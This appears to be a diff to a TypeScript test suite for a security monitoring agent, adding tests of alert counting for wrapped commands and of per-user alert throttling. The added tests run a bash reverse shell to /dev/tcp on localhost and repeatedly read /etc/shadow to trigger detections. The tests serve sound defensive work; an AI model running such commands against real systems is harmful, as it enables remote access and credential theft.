@@ -27,7 +27,7 @@ const NOBODY = 65_534;
  * Users that nothing else runs as. The agent sees the shells of other tests, too, and what the same user does with the same
  * program is one alert.
  */
-const [STRANGER, ANOTHER] = [61_234, 61_235] as const;
+const [STRANGER, ANOTHER, WRAPPED, FLOODING, QUIET_USER] = [61_234, 61_235, 61_236, 61_237, 61_238] as const;
 
 const DESIRED = {
   ...QUICK,
@@ -274,6 +274,47 @@ describe('Alerts of attacks that really happen', function () {
     await until('the count', async () => ((await agent.status()).detections?.counted ?? 0) >= counted + 3);
     await systemClock.sleep(QUIET);
     assert.equal(alerts().filter(isMarked).length, before);
+  });
+
+  /** The reverse shell to another port, and so to another target. */
+  const shellTo = (port: number): Start => [
+    '/bin/bash',
+    '-c',
+    `: ${marker}; bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
+  ];
+  const alertsOf = (userId: number) => alerts().filter((alert) => isMarked(alert) && alert.UserId === String(userId));
+
+  it('count wrappers and their command as one, and raise another alert for a second target', async () => {
+    await raises(
+      'A shell started by timeout and nohup',
+      () => run(['/usr/bin/timeout', '5', 'nohup', ...shellTo(2)], WRAPPED),
+      ({ UserId }) => UserId === String(WRAPPED),
+    );
+    await run(shellTo(3), WRAPPED);
+    await until('the second alert', () => alertsOf(WRAPPED).length >= 2, { limit: LIMIT });
+    await systemClock.sleep(QUIET);
+    const found = alertsOf(WRAPPED).map(({ CommandLine, Count, Selection }) => [CommandLine, Count, Selection]);
+    assert.deepEqual(found, [
+      [['/usr/bin/timeout', '5', 'nohup', ...shellTo(2)].join(' '), 1, 'shellToDevice'],
+      [shellTo(3).join(' '), 1, 'shellToDevice'],
+    ]);
+  });
+
+  it('arrive for another user, and for another rule, after 120 harmless alerts of one user', async () => {
+    const harmless = (n: number): Start => ['/bin/cat', '/etc/shadow', `/nonexistent/${marker}-${n}`];
+    await Promise.all(Array.from({ length: 120 }, (_, n) => run(harmless(n), FLOODING)));
+    const isHeldBack = ({ ExtraDetails }: Payload) =>
+      String((ExtraDetails as Payload | undefined)?.HeldBack).endsWith(`held back, user ${FLOODING}`);
+    await raises('120 harmless alerts', () => {}, isHeldBack);
+    assert.equal(alertsOf(FLOODING).filter((alert) => !isHeldBack(alert)).length, 20);
+    for (const [start, userId] of [
+      [harmless(1), QUIET_USER],
+      [reverseShell, FLOODING],
+    ] as const) {
+      const isIt = (alert: Payload) => alert.UserId === String(userId) && alert.CommandLine === start.join(' ');
+      const { alert } = await raises(`One of user ${userId} after 120 harmless ones`, () => run(start, userId), isIt);
+      assert.equal(isHeldBack(alert), false);
+    }
   });
 
   it('are one for a port that is opened', async () => {
